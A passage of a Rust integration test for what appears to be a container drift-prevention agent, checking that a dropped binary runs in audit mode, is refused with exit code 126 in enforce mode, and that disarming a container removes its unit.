    assert_eq!(changes.as_array().map(Vec::len), Some(2), "{changes}");
    let modes: Vec<_> = node.status()["units"]
        .as_array()
        .unwrap()
        .iter()
        .map(|u| (u["id"].as_str().unwrap().to_string(), u["mode"].clone()))
        .collect();
    assert!(modes.iter().all(|(_, m)| m == "audit"), "{modes:?}");
    let audited = drop_and_run("e2");
    assert!(audited.contains("DROPPED-RAN"), "{audited}");
    let back = cli(&[
        "mode",
        "enforce",
        "--pod",
        "shop/checkout-7d9f",
        "-c",
        "web",
    ]);
    assert!(back.status.success(), "{}", text(&back));
    let after = drop_and_run("e3");
    assert!(after.contains("rc=126"), "{after}");

    let gone = cli(&["disarm", "--pod", "shop/checkout-7d9f", "-c", "side"]);
    assert!(gone.status.success(), "{}", text(&gone));
    let left: Vec<_> = node.status()["units"]
        .as_array()
        .unwrap()
        .iter()
        .map(|u| u["id"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(left, vec!["pod-web".to_string()]);
    for id in ["pod-web", "pod-side"] {
        let _ = node.ctr(&["tasks", "kill", "-s", "SIGKILL", id]);
    }
}
